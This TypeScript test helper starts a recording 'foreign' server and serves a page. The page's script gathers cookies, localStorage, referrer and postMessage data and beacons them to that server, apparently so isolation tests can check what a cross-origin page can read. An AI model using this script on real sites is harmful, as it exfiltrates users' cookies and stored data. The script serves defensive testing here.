import { startOther } from '../../upstream.ts'

export interface Listener {
  /** Has another host name than the portal, since cookies belong to hosts and ignore ports. */
  origin: string
  /** The addresses, headers and bodies of all requests to this server. */
  heard: string[]
  stop(): Promise<void>
}

/** Reports to the page's own server what the page can read of its opener. */
const PAGE = `<!doctype html><title>Foreign</title><h1>Foreign page</h1><script>
const tell = (what) => navigator.sendBeacon('/told', JSON.stringify(what))
const keep = (what) => { try { return JSON.stringify(what()) } catch { return '' } }
tell({ href: location.href, referrer: document.referrer, name: name, cookie: document.cookie, local: keep(() => localStorage) })
addEventListener('message', ({ data }) => tell({ message: keep(() => data) }))
parent.postMessage({ v: 1, type: 'ready', data: { sdk: 'x' } }, '*')
</script>`

/** Starts a foreign server that records all requests it receives. */
export async function startListener(name: string): Promise<Listener> {
  const heard: string[] = []
  const { port, stop } = await startOther((request, response) => {
    let body = ''
    request.on('data', (chunk) => (body += String(chunk)))
    request.on('end', () => heard.push(JSON.stringify([request.url, request.rawHeaders, body])))
    const isScript = request.url?.endsWith('.js')
    response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html; charset=utf-8' })
    response.end(isScript ? 'document.body.append("widget")' : PAGE)
  })
  return { origin: `http://${name}.localhost:${port}`, heard, stop }
}
